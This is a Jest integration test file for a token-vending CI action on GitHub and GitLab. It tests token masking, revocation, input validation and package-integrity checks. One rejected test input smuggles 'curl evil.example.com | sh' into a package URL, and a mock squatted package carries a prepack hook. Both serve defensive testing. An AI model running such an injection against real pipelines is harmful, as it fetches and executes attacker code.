import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import process from 'node:process';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse, parseAllDocuments } from 'yaml';
import { findCanaries, readAllFiles } from '../support/canary-search.ts';
import { environmentOf } from '../support/terraform-run.ts';
import { startTestSystem, type TestSystem } from '../support/test-system.ts';

const root = fileURLToPath(new URL('../../', import.meta.url));
const action = path.join(root, 'dist/action');
let system: TestSystem;
let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'ci-'));
  system = await startTestSystem();
});
afterAll(async () => {
  await system.stop();
  await rm(folder, { recursive: true });
});

async function run(program: string, args: readonly string[], env: Record<string, string>) {
  const child = spawn(program, args, { env: { PATH: process.env['PATH'] ?? '', ...env } });
  const said = { stdout: '', stderr: '' };
  child.stdout.on('data', (chunk) => (said.stdout += chunk));
  child.stderr.on('data', (chunk) => (said.stderr += chunk));
  const [code] = await once(child, 'close');
  return { code, ...said };
}

async function revocations(): Promise<number> {
  const records = await readAllFiles(path.join(system.directory, 'audit'));
  return records.filter(({ text }) => text.includes('"event_code":"revocation"')).length;
}

describe('the action of GitHub', () => {
  /** One job of a runner: inputs, files for its outputs, and state until its end. */
  async function job(inputs: Record<string, string>, caller = 'ci-checkout') {
    const home = await mkdtemp(path.join(folder, 'job-'));
    const files = { GITHUB_ENV: '', GITHUB_OUTPUT: '', GITHUB_STATE: '' };
    for (const name of Object.keys(files) as (keyof typeof files)[]) {
      files[name] = path.join(home, name);
      await writeFile(files[name], '');
    }
    const given = Object.entries(inputs).map(([name, value]) => [
      `INPUT_${name.toUpperCase()}`,
      value,
    ]);
    const environment = {
      ...environmentOf(system, caller),
      ...files,
      ...Object.fromEntries(given),
    };
    const step = (script: string, more: Record<string, string> = {}) =>
      run(process.execPath, [path.join(action, script)], { ...environment, ...more });
    const set = async (name: keyof typeof files) =>
      readAssignments(await readFile(files[name], 'utf8'));
    return { step, set };
  }

  it('masks the token, passes it to later steps, and revokes it at the end if told to', async () => {
    const inputs = {
      credential: 'checkout/orders-api',
      scope: 'orders:read',
      'min-ttl': '30m',
      revoke: 'true',
    };
    const { step, set } = await job(inputs);
    const main = await step('main.mjs');
    const variables = await set('GITHUB_ENV');
    const token = variables['ACCESS_TOKEN'] ?? '';
    system.guard(token);
    expect(main).toEqual({ code: 0, stdout: `::add-mask::${token}\n`, stderr: '' });
    expect(token).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
    const outputs = await set('GITHUB_OUTPUT');
    expect(outputs).toMatchObject({
      scope: 'orders:read',
      'expires-at': expect.stringMatching(/Z$/),
    });
    const state = await set('GITHUB_STATE');
    expect(findCanaries(JSON.stringify([outputs, state]), [token])).toEqual([]);

    const before = await revocations();
    const carried = Object.entries(state).map(([name, value]) => [`STATE_${name}`, value]);
    const end = await step('post.mjs', { ...variables, ...Object.fromEntries(carried) });
    expect(end).toEqual({ code: 0, stdout: '', stderr: '' });
    expect(await revocations()).toBe(before + 1);
  });

  it('revokes its own token in each of two steps that use one variable', async () => {
    const inputs = { credential: 'checkout/orders-api', revoke: 'true' };
    const steps = [
      await job({ ...inputs, scope: 'orders:read' }),
      await job({ ...inputs, scope: 'orders:write' }),
    ];
    const variables: Record<string, string> = {};
    const tokens: string[] = [];
    for (const { step, set } of steps) {
      expect(await step('main.mjs', variables)).toMatchObject({ code: 0 });
      Object.assign(variables, await set('GITHUB_ENV'));
      tokens.push(variables['ACCESS_TOKEN'] ?? '');
    }
    for (const token of tokens) system.guard(token);
    expect(new Set(tokens).size).toBe(2);
    for (const { step, set } of steps) {
      const state = Object.entries(await set('GITHUB_STATE'));
      const carried = Object.fromEntries(state.map(([name, value]) => [`STATE_${name}`, value]));
      expect(await step('post.mjs', { ...variables, ...carried })).toMatchObject({ code: 0 });
    }
    const records = (await readAllFiles(path.join(system.directory, 'audit')))
      .map(({ text }) => text)
      .join('\n');
    for (const token of tokens) {
      const sha256 = createHash('sha256').update(token).digest('hex');
      const revoked = records
        .split('\n')
        .filter((line) => line.includes('"event_code":"revocation"') && line.includes(sha256));
      expect(revoked).toHaveLength(1);
    }
  });

  it('shows an error at the top of the run, with advice', async () => {
    const { step, set } = await job({ credential: 'payments/ledger-api' });
    const { code, stdout } = await step('main.mjs');
    expect(code).toBe(1);
    expect(stdout).toMatch(
      /^::error title=token-vending \(policy_denied\)::No policy allows .*%0ACheck the name\. .*%0Arequest_id: \S+\n$/,
    );
    expect(await set('GITHUB_ENV')).toEqual({});
    expect(await step('post.mjs')).toMatchObject({ code: 0, stdout: '' });
  });

  it.each([
    [{}, /Input credential is missing/],
    [{ credential: 'checkout/orders-api', 'min-ttl': 'soon' }, /Input min-ttl must be/],
    [{ credential: 'checkout/orders-api', 'export-as': 'A B' }, /Input export-as must be/],
    [
      { credential: 'checkout/orders-api', 'export-as': 'NODE_OPTIONS' },
      /must not be NODE_OPTIONS/,
    ],
  ])('names the invalid input: %j', async (inputs, message) => {
    const { step } = await job(inputs as unknown as Record<string, string>);
    expect(await step('main.mjs')).toMatchObject({
      code: 1,
      stdout: expect.stringMatching(message),
    });
  });

  it('is self-contained: nothing is installed', async () => {
    const { runs, inputs } = parse(await readFile(path.join(action, 'action.yml'), 'utf8'));
    expect(runs).toMatchObject({ using: 'node24', main: 'main.mjs', post: 'post.mjs' });
    expect(await readdir(action)).toEqual(expect.arrayContaining([runs.main, runs.post]));
    const source = await readFile(path.join(root, 'action/vend.ts'), 'utf8');
    const read = [...source.matchAll(/runner\.input\('([\w-]+)'\)/g)].map(([, name]) => name);
    expect(new Set(read)).toEqual(new Set(Object.keys(inputs)));
  });
});

describe('the component of GitLab', () => {
  /** The scripts of a job, with the inputs in their places as GitLab puts them there. */
  async function component(own: Record<string, string>) {
    const text = await readFile(path.join(root, 'action/gitlab/templates/vend.yml'), 'utf8');
    const [spec, template] = parseAllDocuments(text).map((document) => document.toJS());
    const described = spec.spec.inputs as Record<string, { default?: string; regex?: string }>;
    const inputs: Record<string, string> = {
      ...Object.fromEntries(
        Object.entries(described).map(([name, one]) => [name, one.default ?? '']),
      ),
      credential: 'checkout/orders-api',
      ...own,
    };
    const script = (lines: string[]) =>
      ['set -e', ...lines]
        .join('\n')
        .replaceAll(/\$\[\[ inputs\.([\w-]+) \]\]/g, (_, name) => inputs[name] ?? '');
    const { before_script, after_script } = template['.token-vending'];
    const environment = {
      ...environmentOf(system, 'ci-checkout'),
      HOME: folder,
      CI_BUILDS_DIR: folder,
      CI_JOB_ID: '42',
    };
    const kept = path.join(folder, 'kept');
    return {
      described,
      kept,
      before: () =>
        run(
          'sh',
          ['-c', script([...before_script, `printf %s "$ACCESS_TOKEN" > ${kept}`])],
          environment,
        ),
      after: () => run('sh', ['-c', script(after_script)], environment),
    };
  }

  const leftFiles = async () =>
    (await readdir(folder)).filter((name) => name.startsWith('.token-vending'));

  it('passes the token to the script, never prints it, and leaves no files', async () => {
    const shim = path.join(folder, 'token-vending');
    await writeFile(
      shim,
      `#!/bin/sh\nexec "${process.execPath}" "${root}dist/cli/token-vending.mjs" "$@"\n`,
    );
    await chmod(shim, 0o755);
    const { before, after, kept } = await component({ revoke: 'true', command: shim });
    const job = await before();
    const token = await readFile(kept, 'utf8');
    system.guard(token);
    expect(token).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
    const revoked = await revocations();
    const end = await after();
    expect([job.code, end.code]).toEqual([0, 0]);
    expect(findCanaries(job.stdout + job.stderr + end.stdout + end.stderr, [token])).toEqual([]);
    expect(await revocations()).toBe(revoked + 1);
    expect(await leftFiles()).toEqual([]);
  });

  it('runs a package of the given SHA-512, and no other that is in its place', async () => {
    const { stdout } = await run(
      'npm',
      ['pack', root, '--ignore-scripts', '--json', '--pack-destination', folder],
      { HOME: folder },
    );
    const [{ filename, integrity }] = JSON.parse(stdout);
    const tarball = path.join(folder, filename);
    const good = await component({ package: tarball, integrity, revoke: 'true' });
    expect(await good.before()).toMatchObject({ code: 0, stderr: '' });
    system.guard(await readFile(good.kept, 'utf8'));
    expect(await good.after()).toMatchObject({ code: 0 });
    await rm(good.kept);

    const squatted = path.join(folder, 'squatted');
    const ran = path.join(folder, 'ran');
    await mkdir(path.join(squatted, 'dist/cli'), { recursive: true });
    const touch = `require('node:fs').writeFileSync(${JSON.stringify(ran)}, '')`;
    await writeFile(
      path.join(squatted, 'package.json'),
      JSON.stringify({
        name: 'token-vending',
        version: '0.1.0',
        scripts: { prepack: `node -e "${touch.replaceAll('"', '\\"')}"` },
      }),
    );
    await writeFile(path.join(squatted, 'dist/cli/token-vending.mjs'), "import 'node:fs';\n");
    for (const expected of [integrity, '']) {
      const bad = await component({ package: squatted, integrity: expected });
      const { code, stderr } = await bad.before();
      expect([code, stderr]).toEqual([1, expect.stringMatching(/the input integrity is /)]);
      expect(await bad.after()).toMatchObject({ code: 0 });
    }
    expect(await readdir(folder)).not.toEqual(expect.arrayContaining(['ran', 'kept']));
    expect(await leftFiles()).toEqual([]);
  });

  it.each([
    ['package', 'token-vending@0.1.0'],
    ['package', 'token-vending'],
    ['package', 'http://packages.example.com/token-vending.tgz'],
    ['package', '@example/token-vending'],
    ['package', 'https://packages.example.com/"; curl evil.example.com | sh; "'],
    ['registry', 'http://registry.example.com'],
    ['integrity', 'sha1-abc'],
  ])('accepts no %s %s', async (name, value) => {
    const { described } = await component({});
    expect(value).not.toMatch(new RegExp(described[name]?.regex ?? ''));
  });

  it.each([
    ['package', 'https://gitlab.example.com/api/v4/projects/7/packages/generic/tv/0.1.0/tv.tgz'],
    ['package', '@example/token-vending@0.1.0'],
    ['registry', 'https://gitlab.example.com/api/v4/projects/7/packages/npm/'],
    ['integrity', `sha512-${'A'.repeat(86)}==`],
  ])('accepts the %s %s', async (name, value) => {
    const { described } = await component({});
    expect(value).toMatch(new RegExp(described[name]?.regex ?? ''));
  });
});

/** The content that a step wrote into a file of the runner. */
function readAssignments(text: string): Record<string, string> {
  const found = [...text.matchAll(/^([\w-]+)<<(\S+)\n(.*?)\n\2\n/gms)];
  return Object.fromEntries(found.map(([, name, , value]) => [name, value]));
}
